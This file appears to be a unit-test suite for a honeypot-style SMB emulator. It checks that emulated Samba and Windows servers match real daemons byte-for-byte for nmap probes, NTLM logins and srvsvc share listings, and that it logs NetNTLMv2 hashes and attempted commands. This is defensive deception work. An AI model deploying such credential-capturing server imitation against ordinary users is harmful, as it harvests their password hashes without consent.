    expect(outcome(session("samba-4.17-debian12").data(setup))).toEqual({ write: "", close: true });
    expect(outcome(session("samba-4.5.16-debian").data(setup))).toEqual({ write: "", close: true });
    // nmap's SMBProgNeg to 4.17: "no dialect" (41 bytes, measured) and FIN.
    const r = session("samba-4.17-debian12").data(SMBPROGNEG);
    expect(r.close).toBe(true);
    expect(bytes(r).length).toBe(41);
  });
});

describe("samba: the clock, the pid and the boot time", () => {
  test("the SMB1 session key is the smbd child's pid: one more for each connection on a live host", () => {
    const counters = new HostCounters(HOST, () => NOW);
    const key = () => {
      const s = samba.start(makeContext({ entry: entry("samba-4.2.14-debian"), hostSeed: "test", host: HOST, sessionSeed: "k", now: () => NOW, counter: (n, spec) => counters.next(n, spec) }));
      s.open();
      return le32(bytes(s.data(SMBPROGNEG)), 4 + 35 + 13);
    };
    const first = key();
    expect(first).toBeGreaterThan(300); // a Linux pid, well past init's
    expect(first).toBeLessThan(32768); // pid_max
    expect(key()).toBe(first + 1);
    expect(key()).toBe(first + 2);
  });

  test("SMB2 NEGOTIATE: SystemTime is the host's clock (its error included) at 10 µs; ServerStartTime is 0 from smbd", () => {
    const skewed = { ...HOST, clockSkewMs: 90_000 };
    const s = samba.start(makeContext({ entry: entry("samba-4.17-debian12"), hostSeed: "test", host: skewed, sessionSeed: "c", now: () => NOW }));
    s.open();
    const m = bytes(s.data(smb2Negotiate([0x0202, 0x0210]))).subarray(4);
    const t = le64(m, 64 + 40);
    const expected = NOW_FILETIME + 90n * 10_000_000n;
    expect(t >= expected && t < expected + 10_000n).toBe(true);
    expect(t % 100n).toBe(0n);
    expect(le64(m, 64 + 48)).toBe(0n);
  });

  test("Samba 3.6 offers SMB 2.002 only, and its negotiate states neither time (smb2_negprot.c writes 0 for both)", () => {
    const s = session("samba-3.6.25-freebsd");
    const m = bytes(s.data(smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302]))).subarray(4);
    expect(le16(m, 64 + 4)).toBe(0x0202);
    expect(le16(m, 64 + 2)).toBe(0x0001); // signing enabled, not required
    expect(le32(m, 64 + 24)).toBe(0x00000001); // SMB2_CAP_DFS ("host msdfs = yes")
    expect([le32(m, 64 + 28), le32(m, 64 + 32), le32(m, 64 + 36)]).toEqual([65536, 65536, 65536]);
    expect(le64(m, 64 + 40)).toBe(0n);
    expect(le64(m, 64 + 48)).toBe(0n);
    expect(toLatin1(m)).toContain("\x1b\x04NONE"); // negprot_spnego(): the standalone hint "NONE"
    // The GUID: smbd's lower-case NetBIOS name.
    expect(toLatin1(m.subarray(64 + 8, 64 + 24)).replace(/\0+$/, "")).toBe(HOST.netbiosName.toLowerCase());
    // No 2.002 among the client's dialects: smbd 3.6 says STATUS_INVALID_PARAMETER.
    expect(le32(bytes(session("samba-3.6.25-freebsd").data(smb2Negotiate([0x0210, 0x0300]))), 4 + 8)).toBe(0xc000000d);
  });

  test("Samba 4.17's negotiate carries what the real one sent smbclient 4.17 (3.1.1, three contexts, 8 MiB, caps 0x0f)", () => {
    const pre = [...u16(1), ...u16(38), ...u32(0), ...u16(1), ...u16(32), ...u16(1), ...new Array(32).fill(0x53), 0, 0];
    const enc = [...u16(2), ...u16(10), ...u32(0), ...u16(4), ...u16(4), ...u16(3), ...u16(2), ...u16(1), 0, 0, 0, 0, 0, 0];
    const sig = [...u16(8), ...u16(8), ...u32(0), ...u16(3), ...u16(2), ...u16(1), ...u16(0)];
    const req = smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302, 0x0311], [...pre, ...enc, ...sig]);
    req[4 + 64 + 32] = 3; // NegotiateContextCount (the helper writes 2)
    expect(req[4 + 64 + 8]).toBe(0x7f); // smbclient's capabilities
    const m = bytes(session("samba-4.17-debian12").data(req)).subarray(4);
    expect(le16(m, 64 + 4)).toBe(0x0311);
    expect(le16(m, 64 + 6)).toBe(3); // preauth, encryption, signing
    expect(le32(m, 64 + 24)).toBe(0x0f);
    expect([le32(m, 64 + 28), le32(m, 64 + 32), le32(m, 64 + 36)]).toEqual([8388608, 8388608, 8388608]);
    expect(le16(m, 64 + 58)).toBe(74); // the 74-byte negTokenInit with the not_defined_in_RFC4178 hint
    const off = le32(m, 64 + 60);
    expect(off).toBe(208);
    // Encryption: AES-128-GCM (2); signing: AES-128-GMAC (2), as the real one chose from smbclient's lists.
    expect(Buffer.from(m.subarray(off + 48, off + 60)).toString("hex")).toBe("020004000000000001000200");
    expect(Buffer.from(m.subarray(off + 64, off + 76)).toString("hex")).toBe("080004000000000001000200");
  });

  test("smbd 4.17 offers multi-channel and (3.0.2) encryption only to a client that offers them", () => {
    // Measured with client capabilities 0: 3.0.2 answered 0x07; smbclient (0x7f) got 0x0f at 3.1.1.
    const req = smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302]);
    req[4 + 64 + 8] = 0;
    const m = bytes(session("samba-4.17-debian12").data(req)).subarray(4);
    expect(le16(m, 64 + 4)).toBe(0x0302);
    expect(le32(m, 64 + 24)).toBe(0x07);
  });
});

describe("samba: Windows SMB faces", () => {
  const winSession = (id: string, port: number, seed = "w1") => session(id, seed, port);

  test("on 139 NetBT wants a session request first: anything else gets 'unspecified error' (0x8f) and a hang-up", () => {
    // RFC 1002 4.3.4 negative session response, error 0x8F: what nmap's line 13846 ("Microsoft Windows netbios-ssn") reads.
    for (const id of ["windows-netbios-2003", "windows-smb-2008r2", "windows-netbios-2012r2"]) {
      const r = winSession(id, 139).data(SMBPROGNEG);
      expect(outcome(r)).toEqual({ write: "830000018f", close: true });
    }
  });

  test("a session request for *SMBSERVER or the host's own name is accepted; any other name is 'called name not present'", () => {
    const s = winSession("windows-netbios-2008r2", 139);
    expect(outcome(s.data(SESSION_REQUEST))).toEqual({ write: "82000000", close: false });
    // Then SMB is spoken on the session, with NetBIOS' 17-bit lengths.
    const neg = bytes(s.data(SMBPROGNEG));
    expect(neg[0]).toBe(0);
    expect(neg[8]).toBe(0x72);
    const own = Uint8Array.from([0x81, 0, 0, 68, ...nbName(HOST.netbiosName), ...nbName("NMAP")]);
    expect(outcome(winSession("windows-netbios-2008r2", 139).data(own))).toEqual({ write: "82000000", close: false });
    const other = Uint8Array.from([0x81, 0, 0, 68, ...nbName("FILESRV"), ...nbName("NMAP")]);
    expect(outcome(winSession("windows-netbios-2008r2", 139).data(other))).toEqual({ write: "8300000182", close: true });
  });

  test("on 445 a first byte other than zero ends the connection (MS-SMB2 2.1: Direct TCP)", () => {
    expect(winSession("windows-smb-2008r2", 445).data(toBytes(PROBE.GetRequest)).close).toBeTruthy();
    expect(winSession("windows-smb-2008r2", 445).data(Uint8Array.of(0x85, 0, 0, 0)).close).toBeTruthy();
  });

  /** nmap's Windows lines 13785 (2003) and 13790 (2008 R2 - 2012), in JavaScript syntax. */
  const W2003 = /^\0\0\0.\xffSMBr\0\0\0\0\x88\x01@\0\0\0\0\0\0\0\0\0\0\0\0\0\0@\x06\0\0\x01\0\x11\x07\0.2\0\x01\0\x04.\0\0\0\0\x01\0\0\0\0\0\xfd\xf3\x01\0/s;
  const W2008 = /^\0\0\0.\xffSMBr\0\0\0\0\x88\x01@\0\0\0\0\0\0\0\0\0\0\0\0\0\0@\x06\0\0\x01\0\x11\x07\0.2\0\x01\0\x04A\0\0\0\0\x01\0\0\0\0\0\xfc\xf3\x01\0.{21}((?:..)*)\0\0((?:..)*)\0\0/s;

  test("the SMBProgNeg answer on 445: 'NT LM 0.12' (index 7), MaxMpx 50, 16644-byte buffers, session key 0, Windows' capabilities", () => {
    expect(W2003.test(toLatin1(bytes(winSession("windows-smb-2003", 445).data(SMBPROGNEG))))).toBe(true);
    for (const id of ["windows-smb-2008r2", "windows-smb-2012r2"]) {
      const out = toLatin1(bytes(winSession(id, 445).data(SMBPROGNEG)));
      const m = W2008.exec(out);
      expect(m).not.toBeNull();
      expect(P(m![1]!)).toBe("WORKGROUP");
      expect(P(m![2]!)).toBe(HOST.netbiosName);
    }
  });

  test("session setup and challenge tell one story: NativeOS/LanMan, the NTLM version, guest off, anonymous allowed", () => {
    const stories: [string, string, string, string][] = [
      ["windows-smb-2003", "Windows Server 2003 3790 Service Pack 2", "Windows Server 2003 5.2", "0502ce0e0000000f"],
      ["windows-smb-2008r2", "Windows Server 2008 R2 Standard 7601 Service Pack 1", "Windows Server 2008 R2 Standard 6.1", "0601b11d0000000f"],
      ["windows-smb-2012r2", "Windows Server 2012 R2 Standard 9600", "Windows Server 2012 R2 Standard 6.3", "060380250000000f"],
    ];
    for (const [id, os, lanman, version] of stories) {
      const s = winSession(id, 445);
      s.data(negprot(["NT LM 0.12"], 0xc853));
      // NTLMSSP NEGOTIATE asking for the version (0x02000000), as Windows clients and smbclient do.
      const r1 = bytes(s.data(sessionSetupExt(spnegoInit(NTLM_NEGOTIATE.map((b, i) => (i === 15 ? b | 0x02 : b))), 0)));
      const at = toLatin1(r1).indexOf("NTLMSSP\0");
      expect(Buffer.from(r1.subarray(at + 48, at + 56)).toString("hex")).toBe(version);
      // Windows names itself and its DNS domain in the target info, as IIS does on the same host.
      expect(toLatin1(r1)).toContain(ucs2(HOST.fqdn).map((c) => String.fromCharCode(c)).join(""));
      // NativeOS and NativeLanMan follow the blob; no primary domain in an extended-security answer.
      expect(toLatin1(r1).endsWith(`${ucs2(os).map((c) => String.fromCharCode(c)).join("")}\0\0${ucs2(lanman).map((c) => String.fromCharCode(c)).join("")}\0\0`)).toBe(true);
      const uid = le16(r1, 4 + 28);
      const r3 = s.data(sessionSetupExt(spnegoResp(ntlmAuthenticate("administrator", "", "KALI", new Array(24).fill(0), Array.from({ length: 48 }, (_, i) => i))), uid));
      expect(le32(bytes(r3), 4 + 5)).toBe(0xc000006d); // guest off: STATUS_LOGON_FAILURE
      expect(events(r3, "login")[0]?.hash?.type).toBe("netntlmv2");
    }
    // Anonymous (null session): allowed, not as guest.
    const s = winSession("windows-smb-2008r2", 445);
    s.data(negprot(["NT LM 0.12"], 0xc853));
    const uid = le16(bytes(s.data(sessionSetupExt(spnegoInit(NTLM_NEGOTIATE), 0))), 4 + 28);
    const anon = bytes(s.data(sessionSetupExt(spnegoResp(ntlmAuthenticate("", "", "", [0], [])), uid)));
    expect(le32(anon, 4 + 5)).toBe(0);
    expect(le16(anon, 4 + 33 + 4)).toBe(0);
  });

  test("Windows 2003 speaks no SMB2; 2008 R2 2.1 at most, 2012 R2 3.0.2", () => {
    expect(winSession("windows-smb-2003", 445).data(smb2Negotiate([0x0202])).close).toBeTruthy();
    const dialectOf = (id: string) => le16(bytes(winSession(id, 445).data(smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302, 0x0311], []))), 4 + 64 + 4);
    expect(dialectOf("windows-smb-2008r2")).toBe(0x0210);
    expect(dialectOf("windows-smb-2012r2")).toBe(0x0302);
  });

  test("SMB2 NEGOTIATE: the host's clock and its boot time (what smb2-time prints as date and start_date)", () => {
    const m = bytes(winSession("windows-smb-2008r2", 445).data(smb2Negotiate([0x0202, 0x0210]))).subarray(4);
    const t = le64(m, 64 + 40);
    expect(t >= NOW_FILETIME && t < NOW_FILETIME + 10_000n).toBe(true);
    const boot = le64(m, 64 + 48);
    // The host's boot time (host/facts.ts), as every service of the host tells it: before now, within its reboot cycle.
    expect(boot).toBe(BigInt(bootTime(HOST, NOW).getTime()) * 10_000n + 116444736000000000n);
    expect(boot < NOW_FILETIME).toBe(true);
    expect(NOW_FILETIME - boot <= BigInt(HOST.rebootDays) * 86_400n * 10_000_000n).toBe(true);
    // The server GUID is the host's own, the same on every connection, and not a name.
    const guid = (seed: string) => Buffer.from(bytes(winSession("windows-smb-2008r2", 445, seed).data(smb2Negotiate([0x0202]))).subarray(4 + 64 + 8, 4 + 64 + 24)).toString("hex");
    expect(guid("a")).toBe(guid("b"));
    expect(guid("a")).not.toBe(Buffer.from(HOST.netbiosName.toLowerCase().padEnd(16, "\0")).toString("hex"));
  });
});

// ------------------------------------------------------------------------------------------ share listing
// The client side below is written from MS-SMB2, MS-SMB, C706 (DCE/RPC) and MS-SRVS, and checked against
// what Debian 12's smbd 4.17.12 sent smbclient 4.17 (docs/research/real-daemons.md): the parse of the
// answers is this test's own, not the code under test.

/** Splits a byte stream into NBSS frame bodies (type 0, 24-bit length). */
function frames(b: Uint8Array): Uint8Array[] {
  const out: Uint8Array[] = [];
  for (let at = 0; at + 4 <= b.length; ) {
    const n = (b[at + 1]! << 16) | (b[at + 2]! << 8) | b[at + 3]!;
    out.push(b.subarray(at + 4, at + 4 + n));
    at += 4 + n;
  }
  return out;
}

function smb2t(cmd: number, body: number[], o: { sid: number; mid: number; tree?: number; credits?: number }): Uint8Array {
  const header = [0xfe, 0x53, 0x4d, 0x42, ...u16(64), ...u16(1), ...u32(0), ...u16(cmd), ...u16(o.credits ?? 1), ...u32(0), ...u32(0), ...u32(o.mid), ...u32(0), ...u32(0xfeff), ...u32(o.tree ?? 0), ...u32(o.sid), ...u32(0), ...new Array(16).fill(0)];
  const p = [...header, ...body];
  return Uint8Array.from([0, (p.length >> 16) & 0xff, (p.length >> 8) & 0xff, p.length & 0xff, ...p]);
}

const guid = (h: string) => {
  // "aabbccdd-eeff-gghh-iijj-kkllmmnnoopp": the first three fields little-endian, the rest as written.
  const x = h.replace(/-/g, "");
  const b = (s: string) => s.match(/../g)!.map((v) => Number.parseInt(v, 16));
  return [...b(x.slice(0, 8)).reverse(), ...b(x.slice(8, 12)).reverse(), ...b(x.slice(12, 16)).reverse(), ...b(x.slice(16))];
};
const SRVSVC_V3 = [...guid("4b324fc8-1670-01d3-1278-5a47bf6ee188"), ...u16(3), ...u16(0)];
const NDR_V2 = [...guid("8a885d04-1ceb-11c9-9fe8-08002b104860"), ...u32(2)];
const NDR64_V1 = [...guid("71710533-beba-4937-8319-b5dbef9ccc36"), ...u32(1)];
const BTFN_3 = [...guid("6cb71c2c-9812-4540-0300-000000000000"), ...u32(1)];

function rpcPdu(ptype: number, callId: number, body: number[]): number[] {
  return [5, 0, ptype, 3, 0x10, 0, 0, 0, ...u16(16 + body.length), ...u16(0), ...u32(callId), ...body];
}
function rpcBind(contexts: number[][][]): number[] {
  const body = [...u16(4280), ...u16(4280), ...u32(0), contexts.length, 0, 0, 0];
  contexts.forEach(([abs, ...ts], i) => body.push(...u16(i), ts.length, 0, ...abs!, ...ts.flat()));
  return rpcPdu(11, 1, body);
}
/** NetShareEnumAll (opnum 15): server name, level, an empty container, prefmaxlen, a resume handle of 0. */
function netShareEnumAll(level: number, ctx = 0, opnum = 15): number[] {
  const name = [...ucs2("10.0.0.5"), 0, 0];
  const stub = [...u32(0x20000), ...u32(9), ...u32(0), ...u32(9), ...name, 0, 0, ...u32(level), ...u32(level), ...u32(0x20004), ...u32(0), ...u32(0), ...u32(0xffffffff), ...u32(0x20008), ...u32(0)];
  return rpcPdu(0, 2, [...u32(stub.length), ...u16(ctx), ...u16(opnum), ...stub]);
}

interface Listed {
  name: string;
  type: number;
  comment: string;
}
/** Reads a NetShareEnumAll response stub (MS-SRVS 2.2.4.33, SHARE_INFO_1_CONTAINER) the NDR way. */
function parseShareEnum(stub: Uint8Array): { level: number; shares: Listed[]; total: number; firstReferent: number; resume: number; werr: number } {
  let at = 0;
  const u = () => {
    at = (at + 3) & ~3;
    const v = le32(stub, at);
    at += 4;
    return v;
  };
  const str = () => {
    const max = u();
    const off = u();
    const n = u();
    expect(off).toBe(0);
    expect(n).toBe(max);
    const s = Buffer.from(stub.subarray(at, at + 2 * n)).toString("utf16le");
    at += 2 * n;
    expect(s.endsWith("\0")).toBe(true);
    return s.slice(0, -1);
  };
  const level = u();
  expect(u()).toBe(level);
  const firstReferent = u();
  const count = u();
  const arrayPtr = u();
  expect(arrayPtr).not.toBe(0);
  expect(u()).toBe(count);
  const fixed = Array.from({ length: count }, () => ({ namePtr: u(), type: u(), commentPtr: u() }));
  const shares = fixed.map((f) => {
    expect(f.namePtr).not.toBe(0);
    expect(f.commentPtr).not.toBe(0);
    return { name: str(), type: f.type, comment: str() };
  });
  const total = u();
  const resumePtr = u();
  const resume = resumePtr ? u() : -1;
  const werr = u();
  expect(at).toBe(stub.length);
  return { level, shares, total, firstReferent, resume, werr };
}

/** A Debian face logged in as a guest over SMB2, with IPC$ connected: what smbclient -L does first. */
function ipcSession(id: string, dialect = 0x0302, seed = "s1") {
  const s = session(id, seed);
  s.data(smb2Negotiate([dialect]));
  const ss = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
  const r1 = frames(bytes(s.data(smb2t(1, ss(spnegoInit(NTLM_NEGOTIATE)), { sid: 0, mid: 1 }))))[0]!;
  const sid = le32(r1, 40);
  s.data(smb2t(1, ss(spnegoResp(ntlmAuthenticate("bob", "", "", [], new Array(40).fill(7)))), { sid, mid: 2 }));
  const path = ucs2("\\\\10.0.0.5\\IPC$");
  const tc = frames(bytes(s.data(smb2t(3, [...u16(9), ...u16(0), ...u16(64 + 8), ...u16(path.length), ...path], { sid, mid: 3 }))))[0]!;
  expect(le32(tc, 8)).toBe(0);
  expect(tc[64 + 2]).toBe(2); // SMB2_SHARE_TYPE_PIPE
  const tree = le32(tc, 36);
  expect(tree).not.toBe(0);
  return { s, sid, tree };
}

function openSrvsvc(c: ReturnType<typeof ipcSession>, mid = 4): { r: Reply; fileId: number[] } {
  const name = ucs2("srvsvc");
  const body = [...u16(57), 0, 0, ...u32(2), ...new Array(16).fill(0), ...u32(0x0012019f), ...u32(0), ...u32(3), ...u32(1), ...u32(0), ...u16(120), ...u16(name.length), ...u32(0), ...u32(0), ...name];
  const r = c.s.data(smb2t(5, body, { sid: c.sid, mid, tree: c.tree }));
  const f = frames(bytes(r))[0]!;
  return { r, fileId: le32(f, 8) === 0 ? Array.from(f.subarray(64 + 64, 64 + 80)) : [] };
}

/** IOCTL FSCTL_PIPE_TRANSCEIVE: the answer's final frame, and the pipe's output. */
function transceive(c: ReturnType<typeof ipcSession>, fileId: number[], pdu: number[], mid: number): { all: Uint8Array[]; status: number; out: Uint8Array; commands: string[] } {
  const body = [...u16(57), ...u16(0), ...u32(0x0011c017), ...fileId, ...u32(120), ...u32(pdu.length), ...u32(0), ...u32(120), ...u32(0), ...u32(4280), ...u32(1), ...u32(0), ...pdu];
  const r = c.s.data(smb2t(11, body, { sid: c.sid, mid, tree: c.tree }));
  const all = frames(bytes(r));
  const last = all[all.length - 1]!;
  const outOff = le32(last, 64 + 32);
  const outLen = le32(last, 64 + 36);
  return { all, status: le32(last, 8), out: last.subarray(outOff, outOff + outLen), commands: events(r, "command").map((e) => e.command ?? "") };
}

describe("samba: smbclient -L's share listing (IPC$, \\srvsvc, DCE/RPC)", () => {
  test("bind: srvsvc over NDR accepted, NDR64 refused (reason 2), bind-time features acknowledged (3/3), as smbd 4.17 answered", () => {
    const c = ipcSession("samba-4.17-debian12");
    const { fileId } = openSrvsvc(c);
    expect(fileId.length).toBe(16);
    const bind = transceive(c, fileId, rpcBind([[SRVSVC_V3, NDR_V2], [SRVSVC_V3, NDR64_V1], [SRVSVC_V3, BTFN_3]]), 5);
    // smbd 4.17 hands the pipe to samba-dcerpcd: an interim STATUS_PENDING with the async flag, then the answer.
    expect(bind.all.length).toBe(2);
    expect(le32(bind.all[0]!, 8)).toBe(0x103);
    expect(le32(bind.all[0]!, 16) & 0x02).toBe(0x02);
    expect(le32(bind.all[0]!, 32)).toBe(5); // AsyncId: smbd uses the message id
    expect(bind.status).toBe(0);
    const a = bind.out;
    expect([a[0], a[1], a[2], a[3]]).toEqual([5, 0, 12, 3]); // bind_ack, first and last fragment
    expect(le16(a, 8)).toBe(a.length);
    expect(le32(a, 12)).toBe(1); // call id echoed
    expect([le16(a, 16), le16(a, 18)]).toEqual([4280, 4280]);
    expect(le32(a, 20)).toBeGreaterThan(0); // association group
    const addrLen = le16(a, 24);
    expect(toLatin1(a.subarray(26, 26 + addrLen))).toBe("\\pipe\\srvsvc\0");
    let at = (26 + addrLen + 3) & ~3;
    expect(a[at]).toBe(3);
    at += 4;
    const results = [0, 1, 2].map((i) => ({ result: le16(a, at + 24 * i), reason: le16(a, at + 24 * i + 2), syntax: Array.from(a.subarray(at + 24 * i + 4, at + 24 * i + 24)) }));
    expect(results[0]).toEqual({ result: 0, reason: 0, syntax: NDR_V2 });
    expect(results[1]).toEqual({ result: 2, reason: 2, syntax: new Array(20).fill(0) });
    expect(results[2]).toEqual({ result: 3, reason: 3, syntax: new Array(20).fill(0) });
    expect(at + 72).toBe(a.length);
  });

  test("NetShareEnumAll level 1: print$, the host's own shares, IPC$ with the server string, the guest's home; logged", () => {
    const c = ipcSession("samba-4.17-debian12");
    const { fileId } = openSrvsvc(c);
    transceive(c, fileId, rpcBind([[SRVSVC_V3, NDR_V2]]), 5);
    const t = transceive(c, fileId, netShareEnumAll(1), 6);
    const p = t.out;
    expect([p[0], p[2], p[3]]).toEqual([5, 2, 3]); // response, one fragment
    expect(le32(p, 12)).toBe(2);
    expect(le32(p, 16)).toBe(p.length - 24); // alloc hint: the stub
    const e = parseShareEnum(p.subarray(24));
    expect(e.level).toBe(1);
    expect(e.werr).toBe(0);
    expect(e.resume).toBe(0);
    expect(e.firstReferent).toBe(0x0002000c); // smbd 4.17's first referent id (measured)
    expect(e.total).toBe(e.shares.length);
    const names = e.shares.map((x) => x.name);
    expect(e.shares[0]).toEqual({ name: "print$", type: 0, comment: "Printer Drivers" });
    expect(e.shares.find((x) => x.name === "IPC$")).toEqual({ name: "IPC$", type: 0x80000003, comment: "IPC Service (Samba 4.17.12-Debian)" });
    expect(e.shares[e.shares.length - 1]).toEqual({ name: "nobody", type: 0, comment: "Home Directories" });
    const own = names.slice(1, names.indexOf("IPC$"));
    expect(own.length).toBeGreaterThanOrEqual(1);
    expect(own.length).toBeLessThanOrEqual(3);
    for (const x of e.shares.slice(1, names.indexOf("IPC$"))) expect(x.comment).not.toBe("");
    expect(t.commands).toContain("srvsvc NetShareEnumAll level 1 \\\\10.0.0.5");
  });

  test("the list is the host's: the same on every connection, another on another host", () => {
    const list = (seed: string, hostSeed: string) => {
      const s = samba.start(makeContext({ entry: entry("samba-4.17-debian12"), hostSeed, host: { ...hostFacts({ seed: hostSeed, family: "debian" }), clockSkewMs: 0 }, sessionSeed: seed, now: () => NOW, localPort: 445 }));
      s.open();
      s.data(smb2Negotiate([0x0302]));
      const ss = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
      const sid = le32(frames(bytes(s.data(smb2t(1, ss(spnegoInit(NTLM_NEGOTIATE)), { sid: 0, mid: 1 }))))[0]!, 40);
      s.data(smb2t(1, ss(spnegoResp(ntlmAuthenticate("", "", "", [], []))), { sid, mid: 2 }));
      const path = ucs2("\\\\h\\IPC$");
      const tree = le32(frames(bytes(s.data(smb2t(3, [...u16(9), ...u16(0), ...u16(72), ...u16(path.length), ...path], { sid, mid: 3 }))))[0]!, 36);
      const c = { s, sid, tree };
      const { fileId } = openSrvsvc(c);
      transceive(c, fileId, rpcBind([[SRVSVC_V3, NDR_V2]]), 5);
      return parseShareEnum(transceive(c, fileId, netShareEnumAll(1), 6).out.subarray(24)).shares.map((x) => x.name).join(",");
    };
    expect(list("a", "host-1")).toBe(list("b", "host-1"));
    const others = new Set(["host-2", "host-3", "host-4", "host-5", "host-6"].map((h) => list("a", h)));
    expect(others.size).toBeGreaterThan(1);
  });

  test("level 0 lists names only; a call on a refused context or an unknown opnum gets smbd's fault", () => {
    const c = ipcSession("samba-4.17-debian12");
    const { fileId } = openSrvsvc(c);
    transceive(c, fileId, rpcBind([[SRVSVC_V3, NDR_V2], [SRVSVC_V3, NDR64_V1]]), 5);
    const l0 = transceive(c, fileId, netShareEnumAll(0), 6).out.subarray(24);
    expect(le32(l0, 0)).toBe(0);
    const count = le32(l0, 12);
    expect(le32(l0, 20)).toBe(count);
    // Level 0: one referent per share, then the names.
    for (let i = 0; i < count; i++) expect(le32(l0, 24 + 4 * i)).toBe(0x20000 + 4 * (5 + i));
    const fault = (ctx: number, opnum: number, mid: number) => {
      const f = transceive(c, fileId, netShareEnumAll(1, ctx, opnum), mid).out;
      expect([f[2], f[3]]).toEqual([3, 0x23]); // fault, first+last+did-not-execute
      return le32(f, 24);
    };
    expect(fault(0, 99, 7)).toBe(0x1c010002); // nca_s_op_rng_error
    expect(fault(1, 15, 8)).toBe(0x1c010003); // nca_s_unk_if: NDR64 context was refused
  });

  test("WRITE then READ reach the same pipe (impacket's way); CLOSE answers 60 zero bytes; a closed handle is FILE_CLOSED", () => {
    const c = ipcSession("samba-4.17-debian12");
    const { fileId } = openSrvsvc(c);
    const pdu = rpcBind([[SRVSVC_V3, NDR_V2]]);
    const w = frames(bytes(c.s.data(smb2t(9, [...u16(49), ...u16(112), ...u32(pdu.length), ...new Array(8).fill(0), ...fileId, ...u32(0), ...u32(0), ...u32(0), ...u32(0), ...pdu], { sid: c.sid, mid: 5, tree: c.tree }))))[0]!;
    expect(le32(w, 8)).toBe(0);
    expect(le32(w, 64 + 4)).toBe(pdu.length);
    const rd = frames(bytes(c.s.data(smb2t(8, [...u16(49), 0x50, 0, ...u32(4096), ...new Array(8).fill(0), ...fileId, ...u32(0), ...u32(0), ...u32(0), ...u32(0), 0], { sid: c.sid, mid: 6, tree: c.tree }))))[0]!;
    expect(le32(rd, 8)).toBe(0);
    expect(rd[64 + 2]).toBe(0x50);
    const data = rd.subarray(0x50, 0x50 + le32(rd, 64 + 4));
    expect(data[2]).toBe(12); // bind_ack
    const close = frames(bytes(c.s.data(smb2t(6, [...u16(24), ...u16(0), ...u32(0), ...fileId], { sid: c.sid, mid: 7, tree: c.tree }))))[0]!;
    expect(le32(close, 8)).toBe(0);
    expect(Array.from(close.subarray(64))).toEqual([60, 0, ...new Array(58).fill(0)]);
    const again = frames(bytes(c.s.data(smb2t(6, [...u16(24), ...u16(0), ...u32(0), ...fileId], { sid: c.sid, mid: 8, tree: c.tree }))))[0]!;
    expect(le32(again, 8)).toBe(0xc0000128);
  });

  test("tree connects to other shares: a listed one is ACCESS_DENIED for a guest, an unknown one BAD_NETWORK_NAME; both logged", () => {
    const c = ipcSession("samba-4.17-debian12");
    const tc = (share: string, mid: number) => {
      const path = ucs2(`\\\\10.0.0.5\\${share}`);
      const r = c.s.data(smb2t(3, [...u16(9), ...u16(0), ...u16(72), ...u16(path.length), ...path], { sid: c.sid, mid }));
      return { status: le32(frames(bytes(r))[0]!, 8), command: events(r, "command")[0]?.command };
    };
    expect(tc("print$", 10)).toEqual({ status: 0xc0000022, command: "SMB2 TREE_CONNECT \\\\10.0.0.5\\print$ (access denied)" });
    expect(tc("nosuchshare", 11)).toEqual({ status: 0xc00000cc, command: "SMB2 TREE_CONNECT \\\\10.0.0.5\\nosuchshare (bad network name)" });
  });

  test("Windows 2008 R2: an anonymous session may not open \\srvsvc (ACCESS_DENIED), as on Vista and later", () => {
    const s = samba.start(makeContext({ entry: entry("windows-smb-2008r2"), hostSeed: "test", host: HOST, sessionSeed: "w", now: () => NOW, localPort: 445 }));
    s.open();
    s.data(smb2Negotiate([0x0210]));
    const ss = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
    const sid = le32(frames(bytes(s.data(smb2t(1, ss(spnegoInit(NTLM_NEGOTIATE)), { sid: 0, mid: 1 }))))[0]!, 40);
    const done = frames(bytes(s.data(smb2t(1, ss(spnegoResp(ntlmAuthenticate("", "", "", [], []))), { sid, mid: 2 }))))[0]!;
    expect(le32(done, 8)).toBe(0);
    const path = ucs2("\\\\h\\IPC$");
    const tree = le32(frames(bytes(s.data(smb2t(3, [...u16(9), ...u16(0), ...u16(72), ...u16(path.length), ...path], { sid, mid: 3 }))))[0]!, 36);
    const r = openSrvsvc({ s, sid, tree });
    expect(le32(frames(bytes(r.r))[0]!, 8)).toBe(0xc0000022);
  });

  test("SMB1 (Samba 3.0): NT_CREATE_ANDX \\srvsvc and TransactNmPipe list the shares, with the server string of Debian's smb.conf", () => {
    const s = session("samba-3.0.24-debian");
    s.data(negprot(["NT LM 0.12"], 0x4001));
    const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(0), ...u16(0), ...u32(0), ...u32(0xd4)];
    const ss = bytes(s.data(smb1({ cmd: 0x73, flags2: 0x4001, words, data: [0, 0, 0, ...ascii("Unix"), 0, ...ascii("Samba"), 0] })));
    expect(le32(ss, 4 + 5)).toBe(0);
    const uid = le16(ss, 4 + 28);
    const smb1t = (cmd: number, w: number[], data: number[], tid: number, mid: number) => {
      const header = [0xff, 0x53, 0x4d, 0x42, cmd, 0, 0, 0, 0, 0x18, ...u16(0x4001), ...new Array(12).fill(0), ...u16(tid), ...u16(0xfeff), ...u16(uid), ...u16(mid)];
      return nb([...header, w.length / 2, ...w, ...u16(data.length), ...data]);
    };
    const tcon = bytes(s.data(smb1t(0x75, [0xff, 0, 0, 0, 0, 0, 1, 0], [0, ...ascii("\\\\FILES\\IPC$"), 0, ...ascii("?????"), 0], 0, 3)));
    expect(le32(tcon, 4 + 5)).toBe(0);
    const tid = le16(tcon, 4 + 24);
    const name = [...ascii("\\srvsvc"), 0];
    const ncw = [0xff, 0, 0, 0, 0, ...u16(name.length - 1), ...u32(0x16), ...u32(0), ...u32(0x0002019f), ...new Array(8).fill(0), ...u32(0), ...u32(3), ...u32(1), ...u32(0), ...u32(2), 0];
    const nc = bytes(s.data(smb1t(0xa2, ncw, name, tid, 4)));
    expect(le32(nc, 4 + 5)).toBe(0);
    expect(nc[4 + 32]).toBe(34);
